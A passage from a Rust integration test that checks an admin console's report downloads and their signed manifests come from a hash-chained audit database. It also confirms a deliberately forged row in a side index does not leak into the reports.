        out.stderr
    );

    // So does the console's report download, and its signed manifest names the
    // stretch of the chain the rows came from.
    let s = Server::start(&dir);
    let mut admin = Console::new(&s);
    assert_eq!(admin.login("admin", ADMIN_PW).status(), 303);
    let dl = "record-not-index-0001";
    let csv_text = admin
        .get(&format!(
            "/admin/reports/download?report=events&dl={dl}&{}",
            query_pair("user", victim)
        ))
        .text()
        .unwrap();
    assert_eq!(csv_rows_of(&csv_text), truth, "console report");
    let manifest = wait_for("the signed manifest", || {
        let r = admin.get(&format!("/admin/reports/manifest?dl={dl}"));
        (r.status() == 200).then(|| r.text().unwrap())
    });
    use base64::Engine;
    let payload = manifest.split('.').nth(1).unwrap();
    let m: serde_json::Value = serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .unwrap(),
    )
    .unwrap();
    let last_id = m["record"]["last_id"].as_i64().unwrap();
    assert_eq!(m["record"]["first_id"], 1, "{m}");
    assert!(last_id >= truth.last().unwrap().0, "{m}");
    let record = rusqlite::Connection::open_with_flags(
        dir.join("audit.db"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let hash: Vec<u8> = record
        .query_row("SELECT hash FROM events WHERE id = ?1", [last_id], |r| {
            r.get(0)
        })
        .unwrap();
    let hex: String = hash.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(m["record"]["last_hash"], hex.as_str(), "{m}");
    let work = tempfile::tempdir().unwrap();
    let (csv_path, manifest_path) = (work.path().join("r.csv"), work.path().join("r.jws"));
    std::fs::write(&csv_path, &csv_text).unwrap();
    std::fs::write(&manifest_path, &manifest).unwrap();
    let ok = verify_export(&s.data_dir, &csv_path, &manifest_path);
    assert_eq!(ok.status, 0, "{} {}", ok.stdout, ok.stderr);

    // The reports were made against the edited index: the forgery is still there.
    let ix = rusqlite::Connection::open_with_flags(
        dir.join("audit-index.db"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let forged: i64 = ix
        .query_row("SELECT count(*) FROM ev WHERE id = 999999", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(
        forged, 1,
        "the index was rebuilt, so this test proved nothing"
    );
}
